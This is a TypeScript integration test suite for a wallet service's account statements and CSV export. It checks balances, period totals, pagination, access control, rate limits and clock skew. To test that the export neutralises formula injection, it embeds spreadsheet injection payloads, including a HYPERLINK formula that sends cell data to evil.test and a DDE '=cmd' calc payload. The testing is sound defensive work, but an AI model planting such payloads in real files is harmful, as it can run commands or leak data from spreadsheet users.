/**
 * Statements over real HTTP on each database: balanceAt and a period's
 * statement against a recomputation from the operations (a property over
 * random histories and boundaries), the operations filters, time at the
 * boundaries, the CSV download parsed back with a CSV parser, and who may
 * read what.
 */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { Client } from '../../testkit/client';
import { databaseKinds, executeOnDatabase } from '../../testkit/databases';
import {
  DEPOSIT,
  SEND,
  WITHDRAW,
  fund,
  signInAdmin,
  signInProvider,
  signUp,
  fundedPerson,
} from '../../testkit/fixtures';
import { startServer, stopAllServers, type TestEnvironment } from '../../testkit/server';
import { runAudit } from '../../testkit/audit';

const OPERATION_FIELDS = `id type amount balanceAfter createdAt counterpartyName reference details refundOf`;
const OPERATIONS = `query Ops($id: ID!, $first: Int, $after: String, $from: DateTime, $to: DateTime, $types: [OperationType!]) {
  wallet(id: $id) {
    operations(first: $first, after: $after, from: $from, to: $to, types: $types) {
      nodes { ${OPERATION_FIELDS} } pageInfo { hasNextPage endCursor }
    }
  }
}`;
const STATEMENT = `query Statement($id: ID!, $from: DateTime!, $to: DateTime!, $first: Int, $after: String) {
  wallet(id: $id) {
    statement(from: $from, to: $to) {
      walletId from to currency openingBalance closingBalance totalIn totalOut
      operations(first: $first, after: $after) {
        nodes { ${OPERATION_FIELDS} } pageInfo { hasNextPage endCursor }
      }
    }
  }
}`;
const REFUND = `mutation Refund($input: RefundTransferInput!) { refundTransfer(input: $input) { transfer { id } } }`;
const BALANCE_AT = `query BalanceAt($id: ID!, $time: DateTime!) { wallet(id: $id) { balanceAt(time: $time) } }`;

const DAY_MS = 86_400_000;

after(stopAllServers);

interface Op {
  id: string;
  type: 'DEPOSIT' | 'WITHDRAWAL' | 'TRANSFER_IN' | 'TRANSFER_OUT';
  amount: string;
  balanceAfter: string;
  createdAt: string;
  counterpartyName: string | null;
  reference: string | null;
  details: string | null;
  refundOf: string | null;
}

interface Page {
  nodes: Op[];
  pageInfo: { hasNextPage: boolean; endCursor: string | null };
}

/** Amounts in cents (every wallet here is USD): exact, as integers. */
const cents = (money: string) => {
  const [whole, fraction = ''] = money.split('.');
  const sign = whole.startsWith('-') ? -1n : 1n;
  return sign * (BigInt(whole.replace('-', '')) * 100n + BigInt(fraction.padEnd(2, '0')));
};
const money = (minor: bigint) => {
  const sign = minor < 0n ? '-' : '';
  const digits = (minor < 0n ? -minor : minor).toString().padStart(3, '0');
  return `${sign}${digits.slice(0, -2)}.${digits.slice(-2)}`;
};
const isCredit = (op: Op) => op.type === 'DEPOSIT' || op.type === 'TRANSFER_IN';
const signed = (op: Op) => (isCredit(op) ? cents(op.amount) : -cents(op.amount));
const at = (op: Op) => Date.parse(op.createdAt);
const iso = (ms: number) => new Date(ms).toISOString();

/** What the operations alone say of a period: the recomputation a statement must equal. */
function recompute(ops: Op[], fromMs: number, toMs: number) {
  const sum = (list: Op[]) => list.reduce((total, op) => total + signed(op), 0n);
  const inside = ops.filter((op) => at(op) >= fromMs && at(op) < toMs);
  return {
    openingBalance: money(sum(ops.filter((op) => at(op) < fromMs))),
    closingBalance: money(sum(ops.filter((op) => at(op) < toMs))),
    totalIn: money(sum(inside.filter(isCredit))),
    totalOut: money(-sum(inside.filter((op) => !isCredit(op)))),
    ids: inside.map((op) => op.id),
  };
}

/** Every page of a list, `first` at a time. */
async function allPages(fetchPage: (after: string | null) => Promise<Page>): Promise<Op[]> {
  const ops: Op[] = [];
  let after: string | null = null;
  for (;;) {
    const page = await fetchPage(after);
    ops.push(...page.nodes);
    if (!page.pageInfo.hasNextPage) return ops;
    after = page.pageInfo.endCursor;
  }
}

function operationsOf(
  client: Client,
  id: string,
  filters: Record<string, unknown> = {},
  first = 100,
) {
  return allPages(
    async (after) =>
      (await client.ok(OPERATIONS, { id, first, after, ...filters })).wallet.operations,
  );
}

function statementOperations(client: Client, id: string, from: string, to: string, first: number) {
  return allPages(
    async (after) =>
      (await client.ok(STATEMENT, { id, from, to, first, after })).wallet.statement.operations,
  );
}

/** RFC 4180 parsed back, strictly (a malformed file throws). */
function parseCsv(text: string): Record<string, string>[] {
  return parse(text, { columns: true, record_delimiter: '\r\n', relax_quotes: false });
}

/** What the API says, as the CSV must say it. */
function asCsvRow(op: Op): Record<string, string> {
  const guard = (text: string | null) =>
    text === null ? '' : /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text) ? `'${text}` : text;
  return {
    created_at: op.createdAt,
    type: op.type,
    amount: isCredit(op) ? op.amount : `-${op.amount}`,
    balance_after: op.balanceAfter,
    counterparty: guard(op.counterpartyName),
    reference: guard(op.reference),
    details: guard(op.details),
    operation_id: op.id,
    refund_of: op.refundOf ?? '',
  };
}

for (const kind of databaseKinds()) {
  describe(`statements on ${kind}`, () => {
    let env: TestEnvironment;
    let url: string;
    let provider: Client;
    let admin: Client;

    before(async () => {
      env = await startServer(kind, {
        SIGNUP_RATE_PER_HOUR: '0',
        STATEMENT_DOWNLOADS_PER_HOUR: '5',
      });
      url = env.server.url;
      provider = await signInProvider(url);
      admin = await signInAdmin(url);
    });
    after(async () => {
      await env?.close();
    });

    const funded = (amount: string, name?: string) => fundedPerson(url, provider, amount, name);

    const csvPath = (walletId: string, from: string, to: string) =>
      `/wallets/${walletId}/statement.csv?from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`;

    it('adds up for any history and any period, and balanceAt equals the recomputation', async () => {
      const others = await Promise.all([funded('1000.00', 'Ana'), funded('1000.00', 'Bo')]);
      const step = fc.oneof(
        fc.record({
          kind: fc.constant('deposit' as const),
          cents: fc.integer({ min: 1, max: 900 }),
        }),
        fc.record({
          kind: fc.constant('withdraw' as const),
          cents: fc.integer({ min: 1, max: 900 }),
        }),
        fc.record({
          kind: fc.constant('send' as const),
          cents: fc.integer({ min: 1, max: 900 }),
          other: fc.nat({ max: 1 }),
        }),
        fc.record({
          kind: fc.constant('receive' as const),
          cents: fc.integer({ min: 1, max: 300 }),
          other: fc.nat({ max: 1 }),
        }),
        // Times apart as well as many in one millisecond.
        fc.record({ kind: fc.constant('pause' as const), ms: fc.integer({ min: 1, max: 4 }) }),
      );
      const picks = fc.array(fc.tuple(fc.nat(), fc.nat(), fc.integer({ min: 1, max: 4 })), {
        minLength: 3,
        maxLength: 6,
      });
      await fc.assert(
        fc.asyncProperty(
          fc.array(step, { minLength: 1, maxLength: 25 }),
          picks,
          async (steps, pairs) => {
            const subject = await signUp(url, 'Subject');
            for (const s of steps) {
              const amount = s.kind === 'pause' ? '' : money(BigInt(s.cents));
              if (s.kind === 'deposit') await fund(provider, subject.walletId, amount);
              if (s.kind === 'withdraw') {
                // Refused (INSUFFICIENT_FUNDS) when it would overdraw: that changes nothing.
                await provider.gql(WITHDRAW, {
                  input: { walletId: subject.walletId, amount, reference: randomUUID() },
                });
              }
              if (s.kind === 'send') {
                await subject.client.gql(SEND, {
                  input: { toWalletId: others[s.other].walletId, amount },
                });
              }
              if (s.kind === 'receive') {
                await others[s.other].client.ok(SEND, {
                  input: { toWalletId: subject.walletId, amount },
                });
              }
              if (s.kind === 'pause') await sleep(s.ms);
            }
            const newestFirst = await operationsOf(subject.client, subject.walletId);
            const ops = [...newestFirst].reverse();
            // The ledger's own balanceAfter follows from the amounts, in time order.
            let running = 0n;
            for (const op of ops) {
              running += signed(op);
              assert.equal(op.balanceAfter, money(running), `balanceAfter of ${op.id}`);
            }
            // Around each operation's time, and before and after them all (a refused
            // withdrawal alone leaves none: then around now).
            const times = ops.length > 0 ? ops.map(at) : [Date.now()];
            const candidates = [
              ...new Set([
                ...times.flatMap((t) => [t - 1, t, t + 1]),
                Math.min(...times) - 10,
                Math.max(...times) + 10,
              ]),
            ].sort((a, b) => a - b);
            for (const [a, b, first] of pairs) {
              let fromMs = candidates[a % candidates.length];
              let toMs = candidates[b % candidates.length];
              if (fromMs === toMs) toMs += 1;
              if (fromMs > toMs) [fromMs, toMs] = [toMs, fromMs];
              const expected = recompute(newestFirst, fromMs, toMs);
              const { statement } = (
                await subject.client.ok(STATEMENT, {
                  id: subject.walletId,
                  from: iso(fromMs),
                  to: iso(toMs),
                  first,
                })
              ).wallet;
              assert.deepEqual(
                {
                  openingBalance: statement.openingBalance,
                  closingBalance: statement.closingBalance,
                  totalIn: statement.totalIn,
                  totalOut: statement.totalOut,
                },
                {
                  openingBalance: expected.openingBalance,
                  closingBalance: expected.closingBalance,
                  totalIn: expected.totalIn,
                  totalOut: expected.totalOut,
                },
                `statement of [${iso(fromMs)}, ${iso(toMs)})`,
              );
              assert.equal(
                cents(statement.openingBalance) +
                  cents(statement.totalIn) -
                  cents(statement.totalOut),
                cents(statement.closingBalance),
              );
              assert.deepEqual(
                [statement.walletId, statement.from, statement.to, statement.currency],
                [subject.walletId, iso(fromMs), iso(toMs), 'USD'],
              );
              const listed = await statementOperations(
                subject.client,
                subject.walletId,
                iso(fromMs),
                iso(toMs),
                first,
              );
              assert.deepEqual(
                listed.map((op) => op.id),
                expected.ids,
                'the operations of [from, to), newest first',
              );
              const filtered = await operationsOf(
                subject.client,
                subject.walletId,
                { from: iso(fromMs), to: iso(toMs), types: ['TRANSFER_OUT', 'WITHDRAWAL'] },
                first,
              );
              assert.deepEqual(
                filtered.map((op) => op.id),
                newestFirst
                  .filter((op) => expected.ids.includes(op.id) && !isCredit(op))
                  .map((op) => op.id),
                'narrowed by type',
              );
              const { balanceAt } = (
                await subject.client.ok(BALANCE_AT, { id: subject.walletId, time: iso(fromMs) })
              ).wallet;
              assert.equal(balanceAt, expected.openingBalance, `balanceAt ${iso(fromMs)}`);
            }
          },
        ),
        { numRuns: 20 },
      );
    });

    it('adds up while many clients move money on the wallet at once', async () => {
      const people = await Promise.all(
        Array.from({ length: 4 }, (_, i) => funded('20.00', `Busy ${i}`)),
      );
      const [watched] = people;
      const from = iso(Date.now() - DAY_MS);
      const to = iso(Date.now() + DAY_MS);
      const moves = Array.from({ length: 48 }, (_, i) =>
        people[i % 4].client.gql(SEND, {
          input: { toWalletId: people[(i + 1 + (i % 3)) % 4].walletId, amount: '0.75' },
        }),
      );
      const reads = Array.from({ length: 16 }, async () => {
        await sleep(Math.random() * 30);
        return (await watched.client.ok(STATEMENT, { id: watched.walletId, from, to, first: 1 }))
          .wallet.statement;
      });
      const [sent, statements] = await Promise.all([Promise.all(moves), Promise.all(reads)]);
      assert.ok(sent.every((answer) => answer.errors === undefined));
      // Each statement is of one moment of the ledger: its closing balance is one
      // that some operation left (never a mixture), and it adds up.
      const history = await operationsOf(watched.client, watched.walletId);
      const left = new Set(history.map((op) => op.balanceAfter));
      for (const statement of statements) {
        assert.equal(statement.openingBalance, '0.00');
        assert.equal(
          cents(statement.openingBalance) + cents(statement.totalIn) - cents(statement.totalOut),
          cents(statement.closingBalance),
        );
        assert.ok(left.has(statement.closingBalance), statement.closingBalance);
      }
      const { wallet } = await watched.client.ok(
        `query($id: ID!, $from: DateTime!, $to: DateTime!) {
          wallet(id: $id) { balance statement(from: $from, to: $to) { closingBalance } }
        }`,
        { id: watched.walletId, from, to },
      );
      assert.equal(wallet.statement.closingBalance, wallet.balance);
    });

    it('counts an operation at exactly `from` in and one at exactly `to` out, whatever the zone or precision', async () => {
      const person = await funded('10.00');
      const [deposit] = await operationsOf(person.client, person.walletId);
      const t = at(deposit);
      const text = deposit.createdAt; // e.g. 2026-12-04T01:02:03.456Z
      const balanceAt = async (time: string) =>
        (await person.client.ok(BALANCE_AT, { id: person.walletId, time })).wallet.balanceAt;
      assert.equal(await balanceAt(text), '0.00', 'not before itself');
      assert.equal(await balanceAt(iso(t + 1)), '10.00');
      // A finer instant is rounded up to the millisecond: just after the operation.
      assert.equal(await balanceAt(text.replace('Z', '000001Z')), '10.00');
      assert.equal(await balanceAt(text.replace('Z', '000000Z')), '0.00');
      // The same instant in another zone.
      const local = new Date(t + 2 * 3_600_000).toISOString().replace('Z', '+02:00');
      assert.equal(await balanceAt(local), '0.00');
      const inAt = await operationsOf(person.client, person.walletId, {
        from: text,
        to: iso(t + 1),
      });
      assert.deepEqual(
        inAt.map((op) => op.id),
        [deposit.id],
      );
      const outAt = await operationsOf(person.client, person.walletId, {
        from: iso(t - 1),
        to: text,
      });
      assert.deepEqual(outAt, []);
      const { statement } = (
        await person.client.ok(STATEMENT, { id: person.walletId, from: text, to: iso(t + 1) })
      ).wallet;
      assert.deepEqual(
        [statement.openingBalance, statement.totalIn, statement.closingBalance],
        ['0.00', '10.00', '10.00'],
      );
      // A date alone is midnight UTC.
      const day = text.slice(0, 10);
      const { statement: ofTheDay } = (
        await person.client.ok(STATEMENT, {
          id: person.walletId,
          from: day,
          to: iso(Date.parse(`${day}T00:00:00Z`) + DAY_MS),
        })
      ).wallet;
      assert.equal(ofTheDay.from, `${day}T00:00:00.000Z`);
      assert.equal(ofTheDay.totalIn, '10.00');
    });

    it('refuses what is not an instant or not a period, and names the field', async () => {
      const person = await funded('1.00');
      // Each is blamed on what is wrong with it: its shape, or a day or time that does not exist.
      for (const [time, reason] of [
        ['yesterday', /ISO 8601/],
        ['2026-02-30', /2026-02-30 is not a day in the calendar/],
        ['2026-12-04T10:00:00', /ISO 8601/],
        ['2026-12-04T25:00:00Z', /25:00:00 is not a time of day/],
        ['2026-12-04T10:00:00+19:00', /\+19:00 is more than 18 hours from UTC/],
        ['', /ISO 8601/],
      ] as const) {
        const message = await person.client.refused('BAD_USER_INPUT', BALANCE_AT, {
          id: person.walletId,
          time,
        });
        assert.match(message, reason, time);
        if (time !== '2026-02-30') continue;
        assert.doesNotMatch(message, /ISO 8601/, 'a day that does not exist is no fault of format');
      }
      const statementOf = (from: string, to: string) =>
        person.client.gql(STATEMENT, { id: person.walletId, from, to });
      for (const [from, to, reason] of [
        ['2026-03-01', '2026-02-01', /later than/],
        ['2026-03-01', '2026-03-01', /later than/],
        ['2025-01-01', '2026-01-03', /at most 366 days/],
      ] as const) {
        const answer = await statementOf(from, to);
        assert.equal(answer.data?.wallet, undefined);
        assert.equal(answer.errors?.[0].extensions?.code, 'BAD_USER_INPUT');
        assert.match(answer.errors?.[0].message ?? '', reason);
        assert.equal((answer.errors?.[0].extensions as { field?: string }).field, 'to');
      }
      // 366 days exactly (a leap year) is a period.
      await person.client.ok(STATEMENT, {
        id: person.walletId,
        from: '2028-01-01',
        to: '2029-01-01',
      });
      await person.client.refused('BAD_USER_INPUT', OPERATIONS, {
        id: person.walletId,
        from: '2026-03-01',
        to: '2026-02-01',
      });
      await person.client.refused('BAD_USER_INPUT', OPERATIONS, { id: person.walletId, types: [] });
      // A cursor is its list's: one from another period is refused, not misread.
      const funds = await funded('3.00');
      await fund(provider, funds.walletId, '1.00');
      const page = (
        await funds.client.ok(OPERATIONS, { id: funds.walletId, first: 1, from: '2020-01-01' })
      ).wallet.operations;
      await funds.client.refused('BAD_USER_INPUT', OPERATIONS, {
        id: funds.walletId,
        first: 1,
        after: page.pageInfo.endCursor,
      });
    });

    it('pages a period with cursors that stay valid while operations arrive', async () => {
      const person = await funded('50.00');
      const other = await funded('50.00', 'Other');
      for (let i = 0; i < 6; i++) {
        await person.client.ok(SEND, { input: { toWalletId: other.walletId, amount: '1.00' } });
      }
      const from = iso(Date.now() - DAY_MS);
      const to = iso(Date.now() + DAY_MS);
      const before = await statementOperations(person.client, person.walletId, from, to, 100);
      assert.equal(before.length, 7);
      const first = (await person.client.ok(STATEMENT, { id: person.walletId, from, to, first: 3 }))
        .wallet.statement.operations as Page;
      // New operations, inside the period, between the pages.
      await fund(provider, person.walletId, '5.00');
      await other.client.ok(SEND, { input: { toWalletId: person.walletId, amount: '2.00' } });
      const rest = await allPages(
        async (after) =>
          (
            await person.client.ok(STATEMENT, {
              id: person.walletId,
              from,
              to,
              first: 2,
              after: after ?? first.pageInfo.endCursor,
            })
          ).wallet.statement.operations,
      );
      assert.deepEqual(
        [...first.nodes, ...rest].map((op) => op.id),
        before.map((op) => op.id),
        'no operation twice, none missed',
      );
      const now = await statementOperations(person.client, person.walletId, from, to, 100);
      assert.equal(now.length, 9);
      assert.deepEqual(
        now.slice(2).map((op) => op.id),
        before.map((op) => op.id),
      );
    });

    it('downloads the period as RFC 4180 CSV equal to the API, with formulas made inert', async () => {
      const sender = await funded('100.00', '=HYPERLINK("https://evil.test/?"&A1,"Click")');
      const person = await funded('20.00', 'Person');
      const hostile = [
        '=HYPERLINK("https://evil.test","refund")',
        '+SUM(1,2)',
        '-2+3',
        '@cmd',
        '\tindented',
        'a, "quoted", and\r\nmultiline note',
        'plain text',
      ];
      const received: string[] = [];
      for (const details of hostile) {
        const sent = await sender.client.ok(SEND, {
          input: { toWalletId: person.walletId, amount: '1.25', details },
        });
        received.push(sent.walletToWallet.transfer.id);
      }
      // Part of one is given back: the refund's row names the transfer it refunds.
      const refunded = received[received.length - 1];
      await person.client.ok(REFUND, { input: { transferId: refunded, amount: '0.50' } });
      await provider.ok(WITHDRAW, {
        input: {
          walletId: person.walletId,
          amount: '3.00',
          reference: `=cmd|' /C calc'!A0 ${randomUUID()}`,
        },
      });
      await provider.ok(DEPOSIT, {
        input: {
          walletId: person.walletId,
          amount: '0.01',
          reference: randomUUID(),
          details: 'ok',
        },
      });
      const from = iso(Date.now() - DAY_MS);
      const to = iso(Date.now() + DAY_MS);
      const api = await statementOperations(person.client, person.walletId, from, to, 100);
      const file = await person.client.download(csvPath(person.walletId, from, to));
      assert.equal(file.status, 200, file.text);
      assert.match(file.headers.get('content-type') ?? '', /^text\/csv/);
      assert.match(
        file.headers.get('content-disposition') ?? '',
        /^attachment; filename="statement-/,
      );
      assert.ok(
        file.text.startsWith(
          'created_at,type,amount,balance_after,counterparty,reference,details,operation_id,refund_of\r\n',
        ),
      );
      assert.ok(file.text.endsWith('\r\n'));
      const rows = parseCsv(file.text);
      assert.equal(rows.length, api.length);
      assert.deepEqual(rows, api.map(asCsvRow));
      // The hostile cells in particular: nothing a spreadsheet would run.
      for (const row of rows) {
        for (const cell of [row.counterparty, row.reference, row.details]) {
          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
        }
      }
      assert.ok(rows.some((row) => row.details === `'=HYPERLINK("https://evil.test","refund")`));
      assert.ok(rows.some((row) => row.counterparty.startsWith(`'=HYPERLINK(`)));
      assert.ok(rows.some((row) => row.details === 'a, "quoted", and\r\nmultiline note'));
      assert.ok(
        rows.some((row) => row.amount === '-3.00'),
        'a debit carries its sign',
      );
      const refunds = rows.filter((row) => row.refund_of !== '');
      assert.deepEqual(
        refunds.map((row) => [row.type, row.amount, row.refund_of]),
        [['TRANSFER_OUT', '-0.50', refunded]],
        'the refund, and only it, names the transfer it gives back',
      );
      // An admin may download it too; an empty period is the header alone.
      const asAdmin = await admin.download(csvPath(person.walletId, from, to));
      assert.deepEqual(parseCsv(asAdmin.text), rows);
      const empty = await person.client.download(
        csvPath(person.walletId, '2020-01-01', '2020-02-01'),
      );
      assert.equal(empty.status, 200);
      assert.deepEqual(parseCsv(empty.text), []);
    });

    it('quotes every text cell; no line break, `;` or tab inside one starts a formula', async () => {
      const sender = await funded('100.00', 'Eve;=HYPERLINK("https://evil.test","x")');
      const person = await funded('1.00', 'Person');
      // What each details cell must read: a `'` before a formula's first
      // character wherever a spreadsheet may start reading a cell (the cell's
      // start, after a line break, after a `,`, `;` or a tab), nothing else touched.
      const cases: [string, string][] = [
        ['\n=1+1', "\n'=1+1"],
        ['x;=1+1', "x;'=1+1"],
        ['ok\r\n+SUM(A1:A9)', "ok\r\n'+SUM(A1:A9)"],
        ['a\n\n-2+3', "a\n\n'-2+3"],
        ['tab\t@cmd', "tab\t'@cmd"],
        ['\r=1', "'\r'=1"],
        ['x;"=1+1', `x;'"=1+1`],
        ['x\u2028\uFF1D1', "x\u2028'\uFF1D1"],
        ['-5.00', "'-5.00"],
        ['2; -3 + 4 = 5, =6', "2;' -3 + 4 = 5,' =6"],
        [
          'x\r\nx,=HYPERLINK("http://evil.test","pay")',
          'x\r\nx,\'=HYPERLINK("http://evil.test","pay")',
        ],
        [' =1+1', "' =1+1"],
        ['a, b; c = d', 'a, b; c = d'],
      ];
      for (const [details] of cases) {
        await sender.client.ok(SEND, {
          input: { toWalletId: person.walletId, amount: '0.01', details },
        });
      }
      await person.client.ok(SEND, {
        input: { toWalletId: sender.walletId, amount: '0.05', details: 'back' },
      });
      const reference = `r;=1 ${randomUUID()}`;
      await provider.ok(WITHDRAW, {
        input: { walletId: person.walletId, amount: '1.00', reference },
      });
      const from = iso(Date.now() - DAY_MS);
      const to = iso(Date.now() + DAY_MS);
      const file = await person.client.download(csvPath(person.walletId, from, to));
      assert.equal(file.status, 200, file.text);

      // Parsed back, with whether each cell was quoted.
      type Cell = { value: string; quoted: boolean };
      const rows: Record<string, Cell>[] = parse(file.text, {
        columns: true,
        record_delimiter: '\r\n',
        cast: (value, context) => (context.header ? value : { value, quoted: context.quoting }),
      });
      assert.equal(rows.length, cases.length + 3);
      const amounts = ['amount', 'balance_after'];
      for (const row of rows) {
        for (const [column, cell] of Object.entries(row)) {
          if (amounts.includes(column)) {
            assert.equal(cell.quoted, false, `${column} is a number`);
            assert.match(cell.value, /^-?\d+\.\d{2}$/);
          } else if (cell.value !== '') {
            assert.equal(cell.quoted, true, `${column} ${JSON.stringify(cell.value)} is quoted`);
          }
        }
      }
      const details = rows.map((row) => row.details.value);
      for (const [sent, written] of cases) {
        assert.ok(
          details.includes(written),
          `${JSON.stringify(sent)} as ${JSON.stringify(written)}`,
        );
      }
      assert.ok(rows.some((row) => row.reference.value === reference.replace(';=', ";'=")));
      assert.ok(
        rows.some((row) => row.counterparty.value === 'Eve;\'=HYPERLINK("https://evil.test","x")'),
      );
      assert.ok(rows.some((row) => row.amount.value === '-0.05' && row.details.value === 'back'));
      assert.ok(rows.some((row) => row.amount.value === '-1.00'));

      // The raw text, as a reader that splits at line breaks, then at `,`, `;` or tabs, sees
      // it: no piece but an amount starts a formula, quoted or not; nor does a quoted cell.
      const formula = /^[ \u00A0"]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
      for (const piece of file.text.split(/\r\n|[\r\n,;\t\u0085\u2028\u2029]/)) {
        if (/^-\d+\.\d{2}$/.test(piece)) continue; // an amount: a number's sign
        assert.doesNotMatch(piece, formula, JSON.stringify(piece));
      }
      assert.doesNotMatch(file.text, /(^|,)"+[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/m);
    });

    it('answers a download it refuses as JSON, revealing nothing', async () => {
      const owner = await funded('9.99', 'Owner');
      const stranger = await funded('1.00', 'Stranger');
      const path = csvPath(owner.walletId, '2026-01-01', '2026-12-31');
      const refusals = [
        [new Client(url), path, 401, 'UNAUTHENTICATED'],
        [stranger.client, path, 403, 'FORBIDDEN'],
        // Every attempt counts against the allowance (5 here): the stranger asks for the missing ones.
        [stranger.client, csvPath(randomUUID(), '2026-01-01', '2026-12-31'), 404, 'NOT_FOUND'],
        [stranger.client, csvPath('not-an-id', '2026-01-01', '2026-12-31'), 404, 'NOT_FOUND'],
        [owner.client, csvPath(owner.walletId, '2026-03-01', '2026-02-01'), 400, 'BAD_USER_INPUT'],
        [owner.client, csvPath(owner.walletId, '2025-01-01', '2026-01-03'), 400, 'BAD_USER_INPUT'],
        [
          owner.client,
          `/wallets/${owner.walletId}/statement.csv?from=2026-01-01`,
          400,
          'BAD_USER_INPUT',
        ],
        [owner.client, `${path}&from=2026-02-01`, 400, 'BAD_USER_INPUT'],
      ] as const;
      for (const [client, target, status, code] of refusals) {
        const answer = await client.download(target);
        assert.equal(answer.status, status, `${target}: ${answer.text}`);
        assert.match(answer.headers.get('content-type') ?? '', /^application\/json/);
        const body = JSON.parse(answer.text);
        assert.equal(body.errors[0].extensions.code, code);
        assert.doesNotMatch(answer.text, /9\.99|Owner|at \/|node_modules/, 'nothing else revealed');
      }
      // A day that does not exist is blamed on the calendar, not on the format.
      const noSuchDay = await owner.client.download(
        csvPath(owner.walletId, '2026-02-01', '2026-02-30'),
      );
      assert.equal(noSuchDay.status, 400);
      assert.equal(
        JSON.parse(noSuchDay.text).errors[0].message,
        '"to": 2026-02-30 is not a day in the calendar.',
      );
      // Statements cost: a request cannot sum a year thousands of times under aliases.
      const many = Array.from(
        { length: 30 },
        (_, i) => `s${i}: statement(from: "2026-01-01", to: "2026-12-31") { totalIn }`,
      ).join(' ');
      const costly = await owner.client.gql(`query($id: ID!) { wallet(id: $id) { ${many} } }`, {
        id: owner.walletId,
      });
      assert.equal(costly.status, 400);
      assert.match(costly.errors?.[0].message ?? '', /cost|complex/i);
      // GraphQL says the same of someone else's wallet, with no data.
      for (const query of [
        [BALANCE_AT, { id: owner.walletId, time: '2026-06-01' }],
        [STATEMENT, { id: owner.walletId, from: '2026-01-01', to: '2026-02-01' }],
      ] as const) {
        const answer = await stranger.client.gql(query[0], query[1]);
        assert.equal(answer.errors?.[0].extensions?.code, 'FORBIDDEN');
        assert.equal(answer.data?.wallet ?? null, null);
      }
    });

    it('limits downloads per person, saying when to retry', async () => {
      const person = await funded('1.00');
      const path = csvPath(person.walletId, '2026-01-01', '2026-02-01');
      for (let i = 0; i < 5; i++) assert.equal((await person.client.download(path)).status, 200);
      const limited = await person.client.download(path);
      assert.equal(limited.status, 429);
      assert.ok(Number(limited.headers.get('retry-after')) > 0);
      const body = JSON.parse(limited.text);
      assert.equal(body.errors[0].extensions.code, 'RATE_LIMITED');
      assert.ok(body.errors[0].extensions.retryAfterSeconds > 0);
      // RATE_LIMITED ranks before the input's shape and the wallet (the contract's order).
      const elsewhere = await person.client.download(
        csvPath(randomUUID(), '2026-02-01', '2026-01-01'),
      );
      assert.equal(elsewhere.status, 429);
      // Someone else is not held back by it.
      const other = await funded('1.00');
      const own = csvPath(other.walletId, '2026-01-01', '2026-02-01');
      assert.equal((await other.client.download(own)).status, 200);
    });

    it("times a movement after its wallets' last even when the clock goes back, on every path", async () => {
      const ahead = await funded('10.00', 'Ahead');
      const behind = await funded('10.00', 'Behind');
      // As if an instance with a clock an hour fast had moved money on this wallet.
      const future = Date.now() + 3_600_000;
      await executeOnDatabase(env.database.url, [
        `UPDATE wallets SET last_operation_at = ${future} WHERE id = '${ahead.walletId}'`,
      ]);
      const sent = (
        await ahead.client.ok(SEND, { input: { toWalletId: behind.walletId, amount: '1.00' } })
      ).walletToWallet;
      assert.equal(sent.transfer.createdAt, iso(future));
      // The credited wallet is now as late, so what comes next on it is not earlier.
      const deposit = (
        await provider.ok(DEPOSIT, {
          input: { walletId: behind.walletId, amount: '1.00', reference: randomUUID() },
        })
      ).externalToWallet.operation;
      assert.ok(at(deposit) >= future, deposit.createdAt);
      for (const person of [ahead, behind]) {
        const ops = await operationsOf(person.client, person.walletId);
        const times = ops.map(at);
        assert.deepEqual(
          times,
          [...times].sort((a, b) => b - a),
          'newest first is time order',
        );
        // Its balance now is the last operation's, and a statement ending after them adds up.
        const { wallet } = await person.client.ok(BALANCE_AT, {
          id: person.walletId,
          time: iso(future + 60_000),
        });
        assert.equal(wallet.balanceAt, ops[0].balanceAfter);
      }
      // Its event says the same time (on PostgreSQL written by the one-statement transfer).
      // Events page oldest first, and show a moment after the answer on PostgreSQL.
      type TransferEvent = { data: { transfer: { id: string; createdAt: string } } };
      const deadline = Date.now() + 10_000;
      let event: TransferEvent | null = null;
      let after: string | null = null;
      while (event === null && Date.now() < deadline) {
        const { events }: { events: { nodes: { data: string }[]; pageInfo: Page['pageInfo'] } } =
          await admin.ok(
            `query($after: String) { events(first: 100, after: $after, types: [TRANSFER_CREATED]) {
            nodes { data } pageInfo { hasNextPage endCursor } } }`,
            { after },
          );
        const bodies: TransferEvent[] = events.nodes.map((node) => JSON.parse(node.data));
        event = bodies.find((body) => body.data.transfer.id === sent.transfer.id) ?? null;
        after = events.pageInfo.endCursor;
        if (event === null && !events.pageInfo.hasNextPage) await sleep(50);
      }
      assert.ok(event !== null, 'the transfer has its event');
      assert.equal(event.data.transfer.createdAt, iso(future));
      const audit = await runAudit(env.database.url);
      assert.equal(audit.code, 0, audit.output);
    });
  });
}
